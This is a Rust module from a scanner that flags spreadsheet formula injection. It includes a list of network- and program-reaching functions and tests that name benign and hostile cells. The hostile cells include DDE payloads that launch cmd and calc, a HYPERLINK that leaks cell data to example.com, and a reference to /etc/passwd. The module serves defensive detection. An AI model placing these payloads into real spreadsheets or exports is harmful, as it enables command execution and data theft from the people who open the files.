//! Formulas that a spreadsheet executes when a table of such values is opened.
//!
//! A sign at the start of a cell alone is nothing: phone numbers, negative amounts and mentions
//! begin so. A call of a function, an exchange with another program or a reference to a file
//! after it is.
mod grammar;

use crate::finding::Match;
use crate::text::{Classes, Text};
use crate::work::Work;

/// What wakes it: all classes of one entry.
pub(crate) const WAKE: &[Classes] = &[
    Classes::LEADING_SIGN.with(Classes::PAREN),
    Classes::LEADING_SIGN.with(Classes::PIPE),
    Classes::LEADING_SIGN.with(Classes::APOSTROPHE),
    Classes::LEADING_SIGN.with(Classes::EQUALS),
    Classes::LEADING_SIGN.with(Classes::PLUS).with(Classes::LETTER).with(Classes::DIGIT),
    Classes::PIPE.with(Classes::BANG),
    Classes::EQUALS.with(Classes::CALL),
    Classes::BANG.with(Classes::PAREN).with(Classes::QUOTE).with(Classes::SEMICOLON),
];
/// What wakes it whatever the classes; in lower case, at least four bytes each.
pub(crate) const LITERALS: &str = "";

/// Functions that reach out of the sheet: to the network, to files, to other programs.
const REACHING: [&[u8]; 22] = [
    b"call",
    b"cmd",
    b"dde",
    b"encodeurl",
    b"exec",
    b"filterxml",
    b"formula",
    b"hyperlink",
    b"image",
    b"importdata",
    b"importfeed",
    b"importhtml",
    b"importrange",
    b"importxml",
    b"indirect",
    b"macro",
    b"query",
    b"register.id",
    b"rtd",
    b"run",
    b"shell",
    b"webservice",
];
/// How far a formula is read; what reaches out stands at its beginning.
const FORMULA_BYTES_MAX: usize = 512;
/// How long the name of a program is, with the path to it.
const PROGRAM_BYTES_MAX: usize = 96;
/// How long a topic is.
const TOPIC_BYTES_MAX: usize = 256;
/// What looking at a cell costs, and what following an exchange costs.
const STEPS_A_CELL: u64 = 40;
const STEPS_AN_EXCHANGE: u64 = 400;

/// Judges one decoding of a text.
pub(crate) fn inspect(text: &Text<'_>, work: &mut Work) -> Option<Match> {
    work.spend(16 + text.lower.len() as u64 / 2).ok()?;
    let whole = text.lower.trim_ascii_start();
    let whole = whole.strip_prefix(b"{").filter(|rest| rest.starts_with(b"=")).unwrap_or(whole);
    if let Some(found) = judge_whole(whole, text.role.is_free(), work) {
        return Some(found);
    }
    if text.role.is_free() {
        return None;
    }
    if whole.starts_with(b"dde") && is_exchange_call(whole) {
        return Some(Match::high("dde"));
    }
    // The cells of a table in the text.
    let mut before = b' ';
    for (at, &byte) in text.lower.iter().enumerate() {
        let starts =
            matches!(before, b',' | b';' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'|' | b'{');
        if starts && matches!(byte, b'=' | b'+' | b'-' | b'@') {
            let cell = text.lower.get(at..).unwrap_or_default();
            if let Some(found) = judge(cell, work) {
                return Some(found);
            }
        }
        before = byte;
    }
    None
}

/// Judges a text that is one cell.
fn judge_whole(cell: &[u8], free: bool, work: &mut Work) -> Option<Match> {
    let cell = cell.get(..FORMULA_BYTES_MAX).unwrap_or(cell);
    let (sign, signs, body) = parts(cell)?;
    if let Some(found) = judge(cell, work) {
        return Some(found);
    }
    if free {
        return None;
    }
    work.spend(8 * body.len() as u64).ok()?;
    if sign == b'=' && (body.starts_with(b"'file:") || body.starts_with(b"'http")) {
        return Some(Match::high("reference-to-a-file"));
    }
    // A name followed by a bracket: `=SUM(A1:A9)`. Prose and smileys have none.
    let is_call = name_of_call(body).is_some_and(|name| name.len() >= 2);
    if is_call && (sign == b'=' && signs == 1 || sign == b'@') {
        return Some(Match::medium("formula"));
    }
    let used = grammar::read(body)?;
    if used.outside {
        return Some(Match::high("reference-to-a-file"));
    }
    let does = match sign {
        b'=' => used.calls > 0 || used.cells > 0,
        // Amounts, phone numbers and a product's number begin so.
        _ => used.cells > 1 || used.cells == 1 && (used.calls > 0 || used.operators > 1),
    };
    if does {
        return Some(Match::medium("formula"));
    }
    (sign == b'=' && used.operators > 0 && used.names == 0).then(|| Match::medium("formula"))
}

/// The sign that a cell begins with, how many there are, and what follows them.
fn parts(cell: &[u8]) -> Option<(u8, usize, &[u8])> {
    let (&sign, _) = cell.split_first()?;
    if !matches!(sign, b'=' | b'+' | b'-' | b'@') {
        return None;
    }
    let is_sign = |byte: &&u8| matches!(byte, b'=' | b'+' | b'-' | b'@' | b'\t'..=b'\r' | b' ');
    let signs = cell.iter().take(64).take_while(is_sign).count();
    Some((sign, signs, cell.get(signs..)?))
}

/// Judges a cell by what it reaches.
fn judge(cell: &[u8], work: &mut Work) -> Option<Match> {
    work.spend(STEPS_A_CELL).ok()?;
    let cell = cell.get(..FORMULA_BYTES_MAX).unwrap_or(cell);
    let (sign, _, body) = parts(cell)?;
    if is_exchange(body, work) || is_exchange_call(body) {
        return Some(Match::high("dde"));
    }
    let name = name_of_call(body);
    let reaches = name.is_some_and(|name| REACHING.contains(&strip_prefix(name)))
        || sign == b'=' && reaches_inside(body, work);
    reaches.then(|| Match::high("formula-that-reaches-out"))
}

/// `program|'topic'!cell`: dynamic data exchange.
fn is_exchange(body: &[u8], work: &mut Work) -> bool {
    let near = body.get(..PROGRAM_BYTES_MAX).unwrap_or(body);
    let Some(pipe) = memchr::memchr(b'|', near) else { return false };
    if work.spend(STEPS_AN_EXCHANGE).is_err() {
        return false;
    }
    let (program, topic) = body.split_at_checked(pipe).unwrap_or_default();
    let named = program.trim_ascii_end().last().is_some_and(u8::is_ascii_alphanumeric);
    let topic = topic.get(1..TOPIC_BYTES_MAX.min(topic.len())).unwrap_or_default();
    let topic = topic.trim_ascii_start();
    let item = memchr::memrchr(b'!', topic).and_then(|at| topic.get(at + 1..));
    let is_item = item.map(<[u8]>::trim_ascii_start).and_then(<[u8]>::first);
    named
        && !program.contains(&b'\n')
        && (topic.starts_with(b"'") || topic.starts_with(b"\""))
        && is_item.is_some_and(|byte| byte.is_ascii_alphanumeric() || b"$_'".contains(byte))
}

/// `DDE("program";"topic";"item")`.
fn is_exchange_call(body: &[u8]) -> bool {
    let after = body.strip_prefix(b"dde").map(<[u8]>::trim_ascii_start);
    let after = after.and_then(|after| after.strip_prefix(b"(")).map(<[u8]>::trim_ascii_start);
    after.is_some_and(|after| after.starts_with(b"\"") || after.starts_with(b"'"))
}

/// Whether a call deeper in an expression reaches out: `=1+HYPERLINK(…)`, `=IF(1,IMPORTXML(…))`.
fn reaches_inside(body: &[u8], work: &mut Work) -> bool {
    let end = memchr::memchr(b'\n', body).unwrap_or(body.len());
    let line = body.get(..end).unwrap_or_default();
    if work.spend(line.len() as u64 / 16).is_err() {
        return false;
    }
    memchr::memchr_iter(b'(', line).any(|open| {
        let before = line.get(open.saturating_sub(24)..open).unwrap_or_default();
        let letters = before.iter().rev().take_while(|b| b.is_ascii_alphanumeric() || **b == b'.');
        let name = before.get(before.len() - letters.count()..).unwrap_or_default();
        // Words of programs and prose are functions too; a sheet's own names are longer.
        let paid = work.spend(STEPS_A_CELL).is_ok();
        paid && name.len() > 5 && REACHING.contains(&strip_prefix(name))
    })
}

/// The name before the bracket that a body starts with.
fn name_of_call(body: &[u8]) -> Option<&[u8]> {
    let is_name = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_');
    let length = body.iter().take(40).take_while(is_name).count();
    let (name, after) = body.split_at_checked(length)?;
    let starts = name.first().is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'_');
    (starts && after.first() == Some(&b'(')).then_some(name)
}

/// New functions are written with a prefix in files: `_xlfn.WEBSERVICE`.
fn strip_prefix(name: &[u8]) -> &[u8] {
    name.strip_prefix(b"_xlfn.").or(name.strip_prefix(b"xlfn.")).unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use crate::{Families, Family, Role, Work, inspect_text};

    fn is_found(text: &str) -> bool {
        let mut found = false;
        let families = Families::from_iter([Family::Formula]);
        let mut work = Work::default();
        inspect_text(text.as_bytes(), Role::Value, families, &mut work, &mut |_| found = true)
            .unwrap();
        found
    }

    #[test]
    fn formulas_that_do_something_are_found() {
        for text in [
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "+cmd|'/c notepad'!A1",
            "=   cmd|'/C calc'!'A1'",
            "\t=cmd|' /C calc'!A0",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
            "=_xlfn.WEBSERVICE(\"http://example.com\")",
            "=IMPORTXML(CONCAT(\"http://example.com\", A2),\"//a\")",
            "+IMAGE(\"http://example.com/x\")",
            "=IF(1=1,IMPORTDATA(\"http://example.com\"),0)",
            "=SUM(A1:A9)",
            "{=DDE(\"cmd\",\"/C calc\",\"x\")}",
            "+SUM(A1:$B$9)",
            "=@SUM(A1:A9)",
            "=\ncmd|'/c calc'!A1",
            "=$A$4",
            "+B1+B2",
            "=T(\"x\")&A4",
            "='C:\\dir\\[book.xlsx]Sheet'!$A$1",
            "='\\\\example.com\\share\\[book.xlsx]Sheet1'!A1",
            "= C:\\Windows\\System32\\cmd.exe |' /C calc'! A0",
            "=1+1",
            "='file:///etc/passwd'#$passwd.A1",
            "name,=cmd|' /C calc'!A0,1",
            "x;\"=HYPERLINK(\"\"http://example.com\"\")\"",
            "%3Dcmd%7C%27 /C calc%27%21A0",
        ] {
            assert!(is_found(text), "{text}");
        }
    }

    #[test]
    fn numbers_mentions_and_prose_pass() {
        for text in [
            "+1 (555) 010-0199",
            "+44 20 7946 0958",
            "-12.50",
            "-5 (approx.)",
            "- item one (first)\n- item two (call us)",
            "@example (see profile)",
            "@channel please run (again)",
            "=)",
            "=== Title (draft) ===",
            "a=b(c)",
            "--verbose=(yes)",
            "+ Pros (many) - Cons (few)",
            "-f(x) = -x",
            "-A4",
            "=== done",
            "-1+2-3",
            "=Name",
            "+1 A4 paper",
            "e = mc|2| wow!",
            "this | that!",
            "{\"a\":\"=\"}",
        ] {
            assert!(!is_found(text), "{text}");
        }
    }
}
